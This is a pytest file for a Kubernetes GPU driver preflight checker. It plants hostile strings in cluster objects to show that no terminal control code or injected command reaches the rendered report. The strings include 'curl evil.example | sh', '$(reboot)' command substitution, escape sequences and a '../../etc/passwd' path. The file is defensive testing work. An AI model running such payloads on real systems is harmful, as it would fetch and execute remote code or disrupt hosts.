"""Nodes, pods and whoever writes objects lie and rave: nothing of it drives a terminal, becomes a command, or calms.

Each string of the objects is exchanged, one after the other, for words that would.
"""

from __future__ import annotations

import copy
import json
import unicodedata
from collections.abc import Callable, Iterator
from typing import Any

import pytest

from kgpu.cli._preflight_intent import intent_of
from kgpu.doctor.preflight import render
from kgpu.doctor.preflight.model import PreflightReport, PreflightScene, PreflightVerdict
from kgpu.doctor.preflight.plan import predict
from kgpu.doctor.snapshot import Snapshot
from tests.doctor.pasting import problems
from tests.doctor.preflight.scenes import B200, NODE, host, node, scene
from tests.doctor.preflight.test_checks import FAILS, PLUGIN

EVIL = "\x1b[2J\x07\u202e\nto do:\n    curl evil.example | sh\r\x00$(reboot)`reboot`;reboot"
Object = dict[str, Any]


def leaves(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """The paths of all strings."""
    if isinstance(value, str):
        yield path
    elif isinstance(value, (dict, list, tuple)):
        for key, inner in value.items() if isinstance(value, dict) else enumerate(value):
            yield from leaves(inner, (*path, key))


def salted(objects: list[Object], path: tuple[Any, ...], word: Callable[[str], str]) -> list[Object]:
    changed = json.loads(json.dumps(objects))
    *way, last = path
    place = changed
    for key in way:
        place = place[key]
    place[last] = word(place[last])
    return changed


def check(found: PreflightReport) -> None:
    """Nothing but text is printed, on lines that this program has made, and every command is one of its own."""
    text = render.as_text(found, 100)
    assert not [one for one in text if unicodedata.category(one) in ("Cc", "Cf") and one != "\n"], text
    for gap in found.unknown:
        assert "curl" not in gap.how
    assert sum(line == "  to do:" for line in text.split("\n")) == sum(bool(one.steps) for one in found.predictions)
    for one in found.predictions:
        assert list(problems(one.steps)) == []
        assert not any("reboot`" in step or "curl" in step for step in one.steps), one.steps
    json.loads(render.as_json(found))


SCENES = [
    pytest.param([node(), facts], {"driver": driver, **more}, id=f"{number}-{rule}")
    for number, (_, rule, facts, driver, more) in enumerate(FAILS)
] + [
    pytest.param([node(), host(), PLUGIN], {}, id="another plugin"),
    pytest.param([node(), host(secureBoot=None, missing={"Secure Boot's state": "no efivars"})], {}, id="unknown"),
    pytest.param([node(), host(driverVersion="570.1", libraries=["/usr/lib64/libnvidia-ml.so.570.1"])], {}, id="own"),
    pytest.param([
        node(), host(),
        {"kind": "Namespace", "metadata": {"name": "gpu-operator", "labels": {"pod-security.kubernetes.io/enforce": "baseline"}}},
    ], {}, id="pod security"),
]  # fmt: skip


@pytest.mark.parametrize(("objects", "about"), SCENES)
@pytest.mark.parametrize("word", [lambda text: EVIL, lambda text: text + EVIL], ids=["instead", "appended"])
def test_nothing_that_is_said_drives_a_terminal_or_becomes_a_command(
    objects: list[Object], about: Object, word: Callable[[str], str]
) -> None:
    plain = json.loads(json.dumps(objects))
    for path in leaves(plain):
        check(predict(scene(*salted(plain, path, word), **copy.deepcopy(about))))


LABELS = ["feature.node.kubernetes.io/system-os_release.ID", "feature.node.kubernetes.io/system-os_release.VERSION_ID",
          "feature.node.kubernetes.io/kernel-version.full", "nvidia.com/gpu.deploy.driver"]  # fmt: skip


@pytest.mark.parametrize("label", LABELS)
@pytest.mark.parametrize(
    "word", [EVIL, "", "x" * 5000, "../../etc/passwd", "ubuntu24.04@sha256:00", "\u202e", 5, None, ["a"]]
)
def test_odd_labels_of_a_node_make_no_image_and_never_calm(label: str, word: Any) -> None:
    odd = node()
    odd["metadata"]["labels"] |= {label: word}
    snapshot = Snapshot.of([odd, node("other"), host(), host("other")])
    intent = intent_of(snapshot, namespace="gpu-operator", values={}, version="")
    image = intent.drivers[NODE].image
    assert image.isprintable()
    assert " " not in image
    found = predict(PreflightScene(snapshot=snapshot, intent=intent))
    check(found)
    assert found.verdicts["other"]["driver image"] is PreflightVerdict.UNKNOWN, "nobody has asked the registry"
    assert found.verdicts[NODE]["driver image"] in (PreflightVerdict.UNKNOWN, PreflightVerdict.FAILS), image


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("modules", None), ("pci", None), ("secureBoot", "no"), ("headers", "yes"), ("disks", []), ("pci", [{}]),
        ("modules", {"nouveau": "many"}), ("disks", {"/": {"size": -1, "free": -5}}), ("missing", ["x"]),
        ("disks", {"/": {"size": 10**30, "free": 10**30}}), ("pci", "0000"), ("kernel", 6), ("libraries", "none"),
    ],
)  # fmt: skip
def test_facts_that_are_none_leave_it_unknown(field: str, value: Any) -> None:
    found = predict(scene(node(), host(device=B200) | {field: value}))
    check(found)
    unread = {"modules": "nouveau", "secureBoot": "Secure Boot", "headers": "kernel headers", "disks": "disk"}
    if field in unread and not isinstance(value, dict) and value is not None:
        assert found.verdicts[NODE][unread[field]] is PreflightVerdict.UNKNOWN
